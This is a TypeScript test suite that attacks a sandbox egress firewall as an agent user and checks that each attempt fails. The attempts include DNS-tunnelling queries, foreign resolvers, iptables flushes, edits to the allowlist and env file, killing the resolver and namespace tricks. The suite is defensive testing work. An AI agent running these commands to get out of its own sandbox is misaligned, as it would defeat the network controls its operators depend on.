/**
 * The egress firewall, attacked for real: a rendered guest in network and mount namespaces, the
 * agent user trying to get out, each attack paired with a check that the allowed work still works.
 * Needs root (see test/README.md).
 */
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { parse, stringify } from "yaml";
import { guestNode, Harness, planOf, RunResult, repoRoot, waitFor } from "./lib";

const records = `
allowed.test.example        A     198.51.100.10
allowed.test.example        AAAA  fd00:ccf1::10
sub.allowed.test.example    A     198.51.100.11
git.test.example            A     198.51.100.20
a.wild.test.example         A     198.51.100.30
deep.b.wild.test.example    A     198.51.100.31
wild.test.example           A     198.51.100.32
rotate.test.example         A     198.51.100.40
late.test.example           A     198.51.100.41
removed.test.example        A     198.51.100.50
added.test.example          A     198.51.100.51
blocked.test.example        A     198.51.100.66
alias.test.example          CNAME target.cdn.example
target.cdn.example          A     198.51.100.70
cidrhost.test.example       A     203.0.113.5
outside.test.example        A     203.0.113.20
ghmeta.test.example         A     198.18.0.10
`;

const allowlistDomains = [
    "allowed.test.example",
    { name: "git.test.example", ports: [22, 443] },
    "*.wild.test.example",
    "rotate.test.example",
    "late.test.example",
    "removed.test.example",
    "alias.test.example",
];

let h: Harness;
let work: string;

/** A stack file of our own: the ci stack with this suite's allowlist and firewall settings. */
function writeStack(dir: string): string {
    const doc = parse(fs.readFileSync(path.join(repoRoot, "stacks/Pulumi.ci.yaml"), "utf8"));
    doc.config["cc-sandbox:allowlist"] = { presets: [], domains: allowlistDomains, cidrs: [{ cidr: "203.0.113.0/28", ports: [8080] }] };
    doc.config["cc-sandbox:firewall"] = { enabled: true, githubMeta: true, logDenied: true };
    const file = path.join(dir, "Pulumi.fwtest.yaml");
    fs.writeFileSync(file, stringify(doc));
    return file;
}

/** Connects over TCP as the agent; resolves with the banner line (empty when refused) and timing. */
async function tcp(host: string, port: number, user = "agent"): Promise<RunResult & { ms: number }> {
    const start = Date.now();
    const r = await h.exec(`timeout 5 bash -c 'exec 3<>/dev/tcp/${host}/${port} && head -1 <&3'`, { user });
    return { ...r, ms: Date.now() - start };
}

/** A TLS connection on 443 as the agent (test/harness/tls-client.js): the banner, "" when refused. */
const tls = (host: string, opts: Parameters<Harness["tls"]>[1] = {}) => h.tls(host, opts);

async function udp(host: string, port: number): Promise<RunResult> {
    return h.exec(`exec 3<>/dev/udp/${host}/${port} && echo probe >&3 && timeout 2 head -1 <&3`);
}

async function dig(name: string, opts: { server?: string; type?: string; tcp?: boolean; user?: string } = {}) {
    const r = await h.exec(`dig +time=2 +tries=1 ${opts.tcp ? "+tcp" : ""} @${opts.server ?? "127.0.0.1"} ${name} ${opts.type ?? "A"}`, { user: opts.user });
    const status = /status: ([A-Z]+)/.exec(r.stdout)?.[1] ?? "NO-ANSWER";
    const answers = [...r.stdout.matchAll(/^\S+\s+\d+\s+IN\s+(A|AAAA|TXT|CNAME)\s+(\S+)/gm)].map((m) => m[2]);
    return { status, answers, out: r.stdout };
}

const state = async () => (await h.exec("cat /run/cc-sandbox/firewall.state")).stdout.split(" ")[0];

beforeAll(async () => {
    work = fs.mkdtempSync(path.join(os.tmpdir(), "ccfw-test-"));
    h = await Harness.start({ config: writeStack(work), records });
}, 120000);

afterAll(async () => {
    await h?.stop();
    fs.rmSync(work, { recursive: true, force: true });
});

describe("IPv4 hosts outside the allowlist", () => {
    test("allowed: an allowlisted name answers on its port", async () => {
        const r = await tls("allowed.test.example");
        expect(r.stdout).toBe("ok 198.51.100.10 443 sni=allowed.test.example\n");
    });

    test("attack: TCP to a host that is not allowlisted is refused at once", async () => {
        const r = await tcp("198.51.100.66", 443);
        expect(r.code).not.toBe(0);
        expect(r.stdout).toBe("");
        expect(r.stderr).toMatch(/Connection refused/);
        expect(r.ms).toBeLessThan(2000);
    });

    test("attack: UDP to a host that is not allowlisted gets no answer", async () => {
        const r = await udp("198.51.100.66", 9999);
        expect(r.stdout).not.toContain("ok udp");
        expect(r.code).not.toBe(0);
    });

    test("allowed: UDP to the local resolver works", async () => {
        expect((await dig("allowed.test.example")).answers).toEqual(["198.51.100.10"]);
    });

    test("attack: UDP (QUIC) to an allowlisted host is refused: entries are TCP only", async () => {
        const r = await udp("198.51.100.10", 443);
        expect(r.stdout).not.toContain("ok udp");
    });

    test("attack: ICMP echo to a host outside the allowlist (and to an allowlisted one) fails", async () => {
        // ping's own failure (1: no reply, 2: send refused), not a missing ping (127).
        const out = await h.exec("ping -c1 -W1 198.51.100.66");
        expect([1, 2]).toContain(out.code);
        const allowed = await h.exec("ping -c1 -W1 198.51.100.10");
        expect([1, 2]).toContain(allowed.code);
    });

    test("allowed: ICMP on loopback works", async () => {
        expect((await h.exec("ping -c1 -W1 127.0.0.1")).code).toBe(0);
    });

    test("attack: connecting to an allowlisted name's address before any lookup fails; after the lookup it works", async () => {
        const before = await tls("late.test.example", { connect: "198.51.100.41" });
        expect(before.stdout).toBe("");
        expect((await dig("late.test.example")).answers).toEqual(["198.51.100.41"]);
        const after = await tls("late.test.example", { connect: "198.51.100.41" });
        expect(after.stdout).toBe("ok 198.51.100.41 443 sni=late.test.example\n");
    });
});

describe("IPv6", () => {
    test("attack: TCP over IPv6 is refused at once", async () => {
        const r = await tcp(h.internetAddress6, 443);
        expect(r.stderr).toMatch(/Connection refused|Permission denied/);
        expect(r.ms).toBeLessThan(2000);
        expect((await tls(h.internetAddress6)).stdout).toBe("");
        const named = await tls("allowed.test.example", { connect: "fd00:ccf1::10" });
        expect(named.stdout).toBe("");
    });

    test("attack: the resolver hands out no AAAA record, even for an allowlisted name", async () => {
        const r = await dig("allowed.test.example", { type: "AAAA" });
        expect(r.answers).toEqual([]);
    });

    test("allowed: the same name over IPv4 works", async () => {
        expect((await tls("allowed.test.example")).stdout).toContain("ok 198.51.100.10");
    });
});

describe("DNS", () => {
    test("attack: a foreign resolver over UDP is unreachable for the agent", async () => {
        const r = await dig("blocked.test.example", { server: h.dnsAddress });
        expect(r.answers).toEqual([]);
        expect(h.upstreamQueries()).not.toContain("blocked.test.example");
    });

    test("attack: a foreign resolver over TCP is unreachable for the agent", async () => {
        const r = await dig("blocked.test.example", { server: h.dnsAddress, tcp: true });
        expect(r.answers).toEqual([]);
        const raw = await tcp(h.dnsAddress, 53);
        expect(raw.stderr).toMatch(/Connection refused/);
        expect(h.upstreamQueries()).not.toContain("blocked.test.example");
    });

    test("attack: root cannot reach a foreign resolver either (only the resolver's user can)", async () => {
        const r = await dig("blocked.test.example", { server: h.dnsAddress, user: "root" });
        expect(r.answers).toEqual([]);
    });

    test("attack: a name that is not allowlisted gets NXDOMAIN and is never forwarded", async () => {
        const r = await dig("blocked.test.example");
        expect(r.status).toBe("NXDOMAIN");
        expect((await tls("blocked.test.example")).stdout).toBe("");
        expect(h.upstreamQueries()).not.toContain("blocked.test.example");
    });

    test("attack: a TXT query carrying data (tunnelling) is answered locally and never forwarded", async () => {
        const r = await dig("bWFkZSB5b3UgbG9vaw.exfil.test.example", { type: "TXT", tcp: true });
        expect(r.status).toBe("NXDOMAIN");
        expect(h.upstreamQueries().some((q) => q.includes("exfil"))).toBe(false);
    });

    test("attack: a subdomain of a plain (exact) entry is refused and never forwarded", async () => {
        const r = await dig("sub.allowed.test.example");
        expect(r.status).toBe("NXDOMAIN");
        expect(h.upstreamQueries()).not.toContain("sub.allowed.test.example");
    });

    test("allowed: the plain entry itself is forwarded and resolves", async () => {
        await dig("allowed.test.example");
        expect(h.upstreamQueries()).toContain("allowed.test.example");
    });

    test("attack: a forwarding stub on 127.0.0.53 (like systemd-resolved's) is no way around", async () => {
        const stub = await h.root(
            `dnsmasq --no-resolv --no-hosts --listen-address=127.0.0.53 --bind-interfaces --server=${h.dnsAddress} --user=root --pid-file=/run/stub.pid`,
        );
        expect(stub.code).toBe(0);
        try {
            const viaStub = await dig("stub-bypass.test.example", { server: "127.0.0.53" });
            expect(viaStub.answers).toEqual([]);
            const stubAsRoot = await dig("stub-bypass.test.example", { server: "127.0.0.53", user: "root" });
            expect(stubAsRoot.answers).toEqual([]);
            expect(h.upstreamQueries()).not.toContain("stub-bypass.test.example");
        } finally {
            await h.root("kill $(cat /run/stub.pid)");
        }
    });

    test("allowed: a CNAME chain from an allowlisted name opens its target address", async () => {
        const r = await dig("alias.test.example");
        expect(r.answers).toContain("198.51.100.70");
        expect((await tls("alias.test.example")).stdout).toBe("ok 198.51.100.70 443 sni=alias.test.example\n");
    });
});

describe("ports", () => {
    test("attack: an allowlisted host on a port its entry does not allow is refused", async () => {
        const r = await tcp("allowed.test.example", 8080);
        expect(r.stdout).toBe("");
        expect(r.stderr).toMatch(/Connection refused/);
        expect((await tcp("allowed.test.example", 22)).stdout).toBe("");
    });

    test("allowed: an entry with ports 22,443 is reachable on both", async () => {
        expect((await tcp("git.test.example", 22)).stdout).toBe("ok 198.51.100.20 22\n");
        expect((await tls("git.test.example")).stdout).toBe("ok 198.51.100.20 443 sni=git.test.example\n");
        expect((await tcp("git.test.example", 80)).stdout).toBe("");
    });

    test("allowed: a CIDR entry opens its network on its port only", async () => {
        expect((await tcp("203.0.113.5", 8080)).stdout).toBe("ok 203.0.113.5 8080\n");
        expect((await tls("203.0.113.5")).stdout).toBe("");
    });

    test("attack: an address just outside an allowlisted CIDR is refused", async () => {
        expect((await tcp("203.0.113.20", 8080)).stdout).toBe("");
    });
});

describe("names that change", () => {
    test("a rotating name: the new address is reachable at once", async () => {
        expect((await tls("rotate.test.example")).stdout).toBe("ok 198.51.100.40 443 sni=rotate.test.example\n");
        h.setRecords(records.replace("rotate.test.example         A     198.51.100.40", "rotate.test.example A 198.51.100.45"));
        await new Promise((r) => setTimeout(r, 300));
        expect((await tls("rotate.test.example")).stdout).toBe("ok 198.51.100.45 443 sni=rotate.test.example\n");
    });

    test("a wildcard entry covers subdomains at any depth", async () => {
        expect((await tls("a.wild.test.example")).stdout).toBe("ok 198.51.100.30 443 sni=a.wild.test.example\n");
        expect((await tls("deep.b.wild.test.example")).stdout).toBe("ok 198.51.100.31 443 sni=deep.b.wild.test.example\n");
    });

    test("attack: a wildcard does not cover the bare domain", async () => {
        expect((await dig("wild.test.example")).status).toBe("NXDOMAIN");
        expect((await tls("198.51.100.32")).stdout).toBe("");
    });
});

describe("the agent against the firewall itself", () => {
    test("attack: the agent cannot flush rules, change policies or edit sets", async () => {
        for (const cmd of ["iptables -F", "iptables -P OUTPUT ACCEPT", "ip6tables -P OUTPUT ACCEPT", "ipset flush ccfw-d-443", "ipset add ccfw-d-443 198.51.100.66"]) {
            const r = await h.exec(cmd);
            expect([cmd, r.code]).not.toEqual([cmd, 0]);
        }
        expect((await h.root("cc-sandbox-firewall status")).code).toBe(0);
        expect((await tls("198.51.100.66")).stdout).toBe("");
    });

    test("attack: the agent cannot stop, reconfigure or replace the resolver", async () => {
        const pid = (await h.root("cat /run/cc-sandbox/firewall/dnsmasq.pid")).stdout.trim();
        expect(pid).toMatch(/^\d+$/);
        expect((await h.exec(`kill ${pid}`)).code).not.toBe(0);
        expect((await h.exec("echo server=/#/192.0.2.53 >>/run/cc-sandbox/firewall/dnsmasq.conf")).code).not.toBe(0);
        expect((await h.exec("echo 'nameserver 192.0.2.53' >/etc/resolv.conf")).code).not.toBe(0);
        // a second resolver on the agent's own port cannot reach upstream either
        const own = await h.exec(`timeout 3 dnsmasq -d --no-resolv --port=5353 --listen-address=127.0.0.1 --server=${h.dnsAddress} --user=agent & sleep 0.5; dig +time=1 +tries=1 -p 5353 @127.0.0.1 agent-resolver.test.example; wait`);
        expect(own.stdout).not.toMatch(/IN\s+A\s+\d/);
        expect(h.upstreamQueries()).not.toContain("agent-resolver.test.example");
        expect((await dig("allowed.test.example")).answers).toEqual(["198.51.100.10"]);
    });

    test("attack: the agent cannot edit the allowlist, the sandbox env or the state file", async () => {
        expect((await h.exec("echo 'evil.example 443' >>/etc/cc-sandbox/allowlist")).code).not.toBe(0);
        expect((await h.exec("echo CC_FIREWALL_ENABLED=0 >>/etc/cc-sandbox/sandbox.env")).code).not.toBe(0);
        expect((await h.exec("echo 'ON 9999999999' >/run/cc-sandbox/firewall.state")).code).not.toBe(0);
        expect((await h.root("cat /etc/cc-sandbox/allowlist")).stdout).not.toContain("evil.example");
    });

    test("attack: the agent cannot run the firewall's own commands", async () => {
        for (const cmd of ["cc-sandbox-firewall down", "echo 'blocked.test.example 443' | cc-sandbox-firewall apply -", "cc-sandbox-firewall up"]) {
            const r = await h.exec(cmd);
            expect(r.code).not.toBe(0);
            expect(r.stderr).toMatch(/must be run as root/);
        }
        expect((await dig("blocked.test.example")).status).toBe("NXDOMAIN");
    });

    test("attack: flushing iptables inside the agent's own user+net namespace changes nothing outside it", async () => {
        const r = await h.exec("unshare -rn bash -c 'iptables -P OUTPUT ACCEPT 2>/dev/null; iptables -F 2>/dev/null; exec 3<>/dev/tcp/198.51.100.66/443 && echo connected'");
        expect(r.stdout).not.toContain("connected");
        expect((await tls("198.51.100.66")).stdout).toBe("");
        expect((await h.root("cc-sandbox-firewall status")).code).toBe(0);
    });

    test("the agent can read the state: the firewall is ON", async () => {
        expect(await state()).toBe("ON");
        const status = await h.exec("cc-sandbox-firewall status");
        expect([status.code, status.stdout]).toEqual([0, expect.stringMatching(/^ON /)]);
    });
});

describe("inbound", () => {
    test("attack: a connection in to a guest port other than SSH is dropped", async () => {
        const listen = `require("net").createServer((s) => s.end("guest 8080\\n")).listen(8080)`;
        await h.root(`setsid -f ${guestNode} -e '${listen}' </dev/null >/dev/null 2>&1`);
        expect(await waitFor(async () => (await h.root("ss -ltn | grep -c ':8080 '")).stdout.trim() === "1", 5000)).toBe(true);
        const blocked = await h.internet(`timeout 3 bash -c 'exec 3<>/dev/tcp/${h.guestAddress}/8080 && head -1 <&3'`);
        expect(blocked.stdout).not.toContain("guest");
    });

    test("allowed: SSH's port (the guest's sshd) answers from the host side", async () => {
        const ssh = await h.internet(`timeout 3 bash -c 'exec 3<>/dev/tcp/${h.guestAddress}/22 && head -1 <&3'`);
        expect(ssh.stdout).toMatch(/^SSH-2\.0-OpenSSH/);
    });
});

describe("denied", () => {
    test("lists a blocked destination with the name that last resolved to it, and refused names", async () => {
        await tcp("git.test.example", 8080);
        await dig("never-allowed.test.example");
        const r = await h.root("cc-sandbox-firewall denied");
        expect(r.code).toBe(0);
        expect(r.stdout).toMatch(/198\.51\.100\.20\s+tcp\/8080\s+git\.test\.example\s+uid=1001/);
        expect(r.stdout).toMatch(/never-allowed\.test\.example/);
    });

    test("lists refused names with blanks and control characters too, escaped, never raw", async () => {
        for (const name of ["sp\\032ace.test.example", "bell\\007.test.example", "esc\\027[31mred.test.example", "dot\\.inlabel.test.example"]) {
            expect((await dig(`'${name}'`)).status).toBe("NXDOMAIN");
        }
        const r = await h.root("cc-sandbox-firewall denied");
        expect(r.code).toBe(0);
        expect(r.stdout).toMatch(/^ {2}sp\\032ace\.test\.example +x1 /m);
        // dnsmasq logs names with control characters as "<name unprintable>": three of them here.
        expect(r.stdout).toMatch(/^ {2}<name unprintable> +x[3-9]/m);
        expect(r.stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f]/);
    });
});

describe("apply", () => {
    const entries = ["allowed.test.example 443", "git.test.example 22,443", "*.wild.test.example 443", "rotate.test.example 443", "added.test.example 443", "203.0.113.0/28 8080", ""].join("\n");
    const next = planOf(entries);

    test("a new allowlist opens a new name, closes a removed one, cuts its open connection and keeps an allowed one", async () => {
        await h.exec("rm -f /tmp/conn-ready /tmp/kept-ready /tmp/conn-go");
        const removed = tls("removed.test.example", { hold: "/tmp/conn-go", ready: "/tmp/conn-ready" });
        const kept = tls("allowed.test.example", { hold: "/tmp/conn-go", ready: "/tmp/kept-ready" });
        let removedEnded = 0;
        void removed.then(() => (removedEnded = Date.now()));
        expect(await waitFor(async () => (await h.exec("test -e /tmp/conn-ready && test -e /tmp/kept-ready")).code === 0, 10000)).toBe(true);
        expect((await dig("added.test.example")).status).toBe("NXDOMAIN");

        const start = Date.now();
        const applied = await h.root("cc-sandbox-firewall apply -", { input: next });
        const appliedAt = Date.now();
        expect(applied.code).toBe(0);
        // Its only word on stderr is what it applied: no error, no warning.
        expect(applied.stderr).toMatch(/^cc-sandbox-firewall: applied: \d+ names, \d+ wildcards, \d+ CIDRs\n$/);
        expect(appliedAt - start).toBeLessThan(3000);

        // The removed name's open connection is cut (its client sees the close), within a second.
        const r = await removed;
        expect(r.stdout).toBe("ok 198.51.100.50 443 sni=removed.test.example\necho:\n");
        expect(removedEnded - appliedAt).toBeLessThan(1000);

        expect((await tls("added.test.example")).stdout).toBe("ok 198.51.100.51 443 sni=added.test.example\n");
        expect((await dig("removed.test.example")).status).toBe("NXDOMAIN");
        expect((await tls("198.51.100.50")).stdout).toBe("");
        expect((await tls("removed.test.example", { connect: "198.51.100.50" })).stdout).toBe("");
        // addresses of names still allowlisted stay reachable without a new lookup
        expect((await tls("allowed.test.example", { connect: "198.51.100.10" })).stdout).toBe("ok 198.51.100.10 443 sni=allowed.test.example\n");

        // The allowed name's connection was left alone: it still carries data both ways.
        await h.root("touch /tmp/conn-go");
        expect((await kept).stdout).toBe("ok 198.51.100.10 443 sni=allowed.test.example\necho:still-here\n");
        expect((await h.root("cat /etc/cc-sandbox/allowlist")).stdout).toBe(next);
    });

    test("a port removed from an entry cuts its open raw connections; an entry kept keeps its own", async () => {
        const hold = (target: string, tag: string) =>
            h.exec(
                `exec 3<>/dev/tcp/${target}; read -r banner <&3; echo "$banner"; touch /tmp/${tag}-ready; ` +
                    `while [ ! -e /tmp/raw-go ]; do sleep 0.1; done; echo still-here >&3 2>/dev/null; read -r -t 3 echoed <&3; echo "echo:$echoed"`,
            );
        await h.root("cc-sandbox-firewall apply -", { input: next });
        await h.exec("rm -f /tmp/git-ready /tmp/net-ready /tmp/raw-go");
        expect((await dig("git.test.example")).answers).toEqual(["198.51.100.20"]);
        const git = hold("198.51.100.20/22", "git");
        const net = hold("203.0.113.5/8080", "net");
        expect(await waitFor(async () => (await h.exec("test -e /tmp/git-ready && test -e /tmp/net-ready")).code === 0, 10000)).toBe(true);
        const without22 = planOf(entries.replace("git.test.example 22,443", "git.test.example 443"));
        expect((await h.root("cc-sandbox-firewall apply -", { input: without22 })).code).toBe(0);
        await h.root("touch /tmp/raw-go");
        expect((await git).stdout).toBe("ok 198.51.100.20 22\necho:\n");
        expect((await net).stdout).toBe("ok 203.0.113.5 8080\necho:still-here\n");
        expect((await tcp("git.test.example", 22)).stdout).toBe("");
        expect((await tls("git.test.example")).stdout).toBe("ok 198.51.100.20 443 sni=git.test.example\n");
        await h.root("cc-sandbox-firewall apply -", { input: next });
    });

    test("fail-closed: a malformed allowlist changes nothing and exits non-zero", async () => {
        const before = await h.root("iptables-save -t filter | grep -v '^#' | sed 's/\\[[0-9:]*\\]//'; ipset list -n | sort; cat /etc/cc-sandbox/allowlist");
        // The host's plan for allowed.test.example with one more line, each bad in its own way.
        const good = planOf("allowed.test.example 443\n");
        for (const bad of [
            "set ccfw-d-70000 70000/raw\n",
            "name EVIL.example only ccfw-d-443\n",
            "set ccfw-n-443r 443/raw\ncidr ccfw-n-443r 10.0.0.1/8\n",
            "name blocked.test.example only\n",
            "name blocked.test.example only ccfw-d-nosuch\n",
            "proxy tls exact blocked.test.example:443\n",
            "server=/#/192.0.2.53\n",
            "blocked.test.example 443\n",
        ]) {
            const r = await h.root("cc-sandbox-firewall apply -", { input: good + bad });
            expect(r.code).not.toBe(0);
            expect(r.stderr).toMatch(/nothing was changed/);
        }
        // An allowlist in the form the guest took before plans: refused as a whole.
        expect((await h.root("cc-sandbox-firewall apply -", { input: "allowed.test.example 443\nblocked.test.example 443\n" })).stderr).toMatch(/first line must be 'plan 1'/);
        const after = await h.root("iptables-save -t filter | grep -v '^#' | sed 's/\\[[0-9:]*\\]//'; ipset list -n | sort; cat /etc/cc-sandbox/allowlist");
        expect(after.stdout).toBe(before.stdout);
        expect((await dig("blocked.test.example")).status).toBe("NXDOMAIN");
        expect((await tls("allowed.test.example")).stdout).toBe("ok 198.51.100.10 443 sni=allowed.test.example\n");
    });
});

describe("GitHub's published CIDRs", () => {
    test("valid /meta JSON opens its IPv4 networks on 22 and 443 only", async () => {
        const meta = JSON.stringify({ web: ["198.18.0.0/24", "2001:db8::/32"], api: ["198.18.0.0/24"], git: ["198.18.1.0/24"], actions: ["198.19.0.0/16"] });
        const r = await h.root("cat >/tmp/meta.json && cc-sandbox-firewall github-meta /tmp/meta.json", { input: meta });
        expect(r.code).toBe(0);
        expect((await tls("198.18.0.10")).stdout).toBe("ok 198.18.0.10 443 sni=-\n");
        expect((await tcp("198.18.0.10", 8080)).stdout).toBe("");
    });

    test("fail-closed: invalid CIDRs in /meta are rejected and the loaded set stays", async () => {
        const bad = JSON.stringify({ web: ["198.18.0.0/24", "0.0.0.0/0"] });
        const r = await h.root("cat >/tmp/bad.json && cc-sandbox-firewall github-meta /tmp/bad.json", { input: bad });
        expect(r.code).not.toBe(0);
        expect((await h.root("ipset list ccfw-gh | grep -c '^198.18'")).stdout.trim()).toBe("2");
        expect((await tls("198.51.100.66")).stdout).toBe("");
    });
});

describe("the watcher and status", () => {
    test("the resolver is restarted if it dies", async () => {
        await h.root("kill $(cat /run/cc-sandbox/firewall/dnsmasq.pid)");
        expect(await waitFor(async () => (await dig("allowed.test.example")).answers.includes("198.51.100.10"), 8000)).toBe(true);
    });

    test("OFF within seconds after root flushes the rules, ON again after up", async () => {
        expect(await state()).toBe("ON");
        await h.root("iptables -F");
        expect(await waitFor(async () => (await state()) === "OFF", 6000)).toBe(true);
        expect((await h.root("cc-sandbox-firewall status")).code).toBe(3);
        expect((await h.root("cc-sandbox-firewall up")).code).toBe(0);
        expect(await waitFor(async () => (await state()) === "ON", 6000)).toBe(true);
    });

    test("OFF after root sets an ACCEPT policy (IPv4 or IPv6)", async () => {
        await h.root("iptables -P OUTPUT ACCEPT");
        expect(await waitFor(async () => (await state()) === "OFF", 6000)).toBe(true);
        await h.root("cc-sandbox-firewall up");
        expect(await waitFor(async () => (await state()) === "ON", 6000)).toBe(true);
        await h.root("ip6tables -P OUTPUT ACCEPT");
        expect(await waitFor(async () => (await state()) === "OFF", 6000)).toBe(true);
        await h.root("cc-sandbox-firewall up");
        expect(await waitFor(async () => (await state()) === "ON", 6000)).toBe(true);
    });
});

describe("cc-sandbox-verify against the live firewall", () => {
    test("with no target given, it takes a name the plan checks by name and proves it reachable and checked", async () => {
        const r = await h.exec("cc-sandbox-verify --only firewall --blocked-ip 198.51.100.66");
        expect(r.stdout).toMatch(/firewall-allows: [a-z.]+\.test\.example:443 reachable/);
        expect(r.stdout).toMatch(/firewall-names: .* not for a name off the allowlist/);
        expect(r.code).toBe(0);
    });

    test("with raw ports only in the plan, it takes the first name on the first port of its set", async () => {
        const before = (await h.root("cat /etc/cc-sandbox/allowlist")).stdout;
        try {
            expect((await h.root("cc-sandbox-firewall apply -", { input: planOf("git.test.example 22\n") })).code).toBe(0);
            const r = await h.exec("cc-sandbox-verify --only firewall --blocked-ip 198.51.100.66");
            expect(r.stdout).toContain("firewall-allows: git.test.example:22 reachable");
            expect(r.stdout).not.toContain("firewall-names");
            expect(r.code).toBe(0);
        } finally {
            await h.root("cc-sandbox-firewall apply -", { input: before });
        }
    });
});

describe("controls with the firewall down (the attacks above failed because of it)", () => {
    afterAll(async () => {
        await h.root("cc-sandbox-firewall up");
    });

    test("down opens UDP, ICMP, IPv6 and foreign DNS; up closes them again", async () => {
        expect((await h.root("cc-sandbox-firewall down")).code).toBe(0);
        expect(await waitFor(async () => (await state()) === "OFF", 6000)).toBe(true);
        expect((await udp("198.51.100.66", 9999)).stdout).toContain("ok udp 9999");
        expect((await h.exec("ping -c1 -W1 198.51.100.66")).code).toBe(0);
        expect((await tls(h.internetAddress6)).stdout).toContain("ok");
        expect((await dig("blocked.test.example", { server: h.dnsAddress })).answers).toEqual(["198.51.100.66"]);

        expect((await h.root("cc-sandbox-firewall up")).code).toBe(0);
        expect((await udp("198.51.100.66", 9999)).stdout).not.toContain("ok udp");
        expect((await tls("198.51.100.66")).stdout).toBe("");
    });

    test("fail-closed at boot: up with a malformed allowlist locks down instead of opening", async () => {
        const good = (await h.root("cat /etc/cc-sandbox/allowlist")).stdout;
        const broken = await h.root("sed -i 's/^set ccfw-d-443 443.tls$/set ccfw-d-443 99999\\/tls/' /etc/cc-sandbox/allowlist && grep -c 99999 /etc/cc-sandbox/allowlist");
        expect(broken.stdout).toBe("1\n");
        try {
            const r = await h.root("cc-sandbox-firewall up");
            expect(r.code).not.toBe(0);
            expect(r.stderr).toMatch(/LOCKDOWN/);
            expect((await tls("198.51.100.10")).stdout).toBe("");
            expect((await dig("allowed.test.example", { server: h.dnsAddress, user: "root" })).answers).toEqual([]);
            const ping = await h.exec("ping -c1 -W1 127.0.0.1");
            expect([ping.code, ping.stderr]).toEqual([0, ""]);
        } finally {
            await h.root("cat >/etc/cc-sandbox/allowlist", { input: good });
        }
        expect((await h.root("cc-sandbox-firewall up")).code).toBe(0);
        expect((await tls("allowed.test.example")).stdout).toBe("ok 198.51.100.10 443 sni=allowed.test.example\n");
    });

    test("fail-closed without ipset: up locks down with rules that need no set, SSH in still answers", async () => {
        // An ipset that fails every call, as on a kernel without the ip_set module.
        const stub = "mkdir -p /tmp/noipset && printf '#!/bin/sh\\necho ipset: no kernel support >&2; exit 1\\n' >/tmp/noipset/ipset && chmod 0755 /tmp/noipset/ipset";
        await h.root(stub);
        try {
            const r = await h.root("PATH=/tmp/noipset:$PATH cc-sandbox-firewall up");
            expect(r.code).not.toBe(0);
            expect(r.stderr).toMatch(/locking down without them/);
            expect(r.stderr).toMatch(/LOCKDOWN is in place/);
            const rules = (await h.root("iptables-save -t filter")).stdout;
            expect(rules).toMatch(/^:OUTPUT DROP/m);
            expect(rules).not.toMatch(/match-set/);
            expect((await tls("198.51.100.10")).stdout).toBe("");
            const ssh = await h.internet(`timeout 3 bash -c 'exec 3<>/dev/tcp/${h.guestAddress}/22 && head -1 <&3'`);
            expect(ssh.stdout).toMatch(/^SSH-2\.0-OpenSSH/);
        } finally {
            await h.root("rm -rf /tmp/noipset");
        }
        expect((await h.root("cc-sandbox-firewall up")).code).toBe(0);
        expect((await tls("allowed.test.example")).stdout).toBe("ok 198.51.100.10 443 sni=allowed.test.example\n");
    });
});
